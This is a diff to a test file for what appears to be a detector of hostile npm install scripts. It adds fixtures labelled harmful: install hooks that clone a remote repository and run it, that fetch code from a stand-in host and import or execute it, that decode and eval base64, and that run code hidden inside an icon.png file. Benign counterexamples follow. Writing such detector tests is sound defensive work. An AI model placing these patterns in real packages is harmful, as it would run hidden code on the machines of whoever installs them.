@@ -30,6 +30,52 @@ const HARMFUL: [string, string, Record<string, string>][] = [
     },
   ],
   [
+    'a repository that is cloned and run',
+    'install-script-downloads',
+    {
+      'package.json': install(
+        'git clone --depth 1 https://forge.other.example/kit.git /tmp/kit && node /tmp/kit/run.js',
+      ),
+    },
+  ],
+  [
+    'a line that imports what it fetched',
+    'install-script-downloads',
+    {
+      'package.json': install(
+        `node -e "fetch('https://assets.other.example/setup').then(r=>r.text()).then(t=>import('data:text/javascript,'+encodeURIComponent(t))).catch(()=>0)"`,
+      ),
+    },
+  ],
+  [
+    'a line that writes what it fetched and starts it',
+    'install-script-downloads',
+    {
+      'package.json': install(
+        `node -e "require('https').get('https://assets.other.example/s.js',r=>r.pipe(require('fs').createWriteStream('s.js')).on('finish',()=>require('./s.js')))"`,
+      ),
+    },
+  ],
+  [
+    'a line that decodes and runs',
+    'decoded-code-executed',
+    {
+      'package.json': install(
+        `node -e "eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())"`,
+      ),
+    },
+  ],
+  [
+    'code read from a file that is named like a picture',
+    'disguised-code',
+    {
+      'package.json': install('node setup.js'),
+      'setup.js': `const fs = require('fs'), path = require('path'), vm = require('vm');
+        const icon = fs.readFileSync(path.join(__dirname, 'assets', 'icon.png')).subarray(4096).toString();
+        vm.runInThisContext(icon);`,
+    },
+  ],
+  [
     'a program that curl writes',
     'download-and-execute',
     {
@@ -82,6 +128,27 @@ test.each<[string, Record<string, string>]>([
       'package.json': install(
         `node -e "if(+process.versions.node.split('.')[0]<18){console.error('needs 18 (fetch from https://nodejs.org)');process.exit(1)}"`,
       ),
+    },
+  ],
+  [
+    'a repository that is only cloned',
+    { 'package.json': install('git clone https://forge.other.example/data.git data') },
+  ],
+  [
+    'a line that decodes what it prints, and a module that it imports',
+    {
+      'package.json': install(
+        `node -e "console.log(String.fromCharCode(10003));import('./setup.js').then((m)=>m.run())"`,
+      ),
+      'setup.js': 'export const run = () => console.log(1);',
+    },
+  ],
+  [
+    'a picture that is read as a picture',
+    {
+      'index.js': `import fs from 'node:fs'; import vm from 'node:vm';
+        export const icon = fs.readFileSync('assets/icon.png').toString('base64');
+        export const rule = (text) => vm.runInNewContext(text, {}, { timeout: 10 });`,
     },
   ],
   [
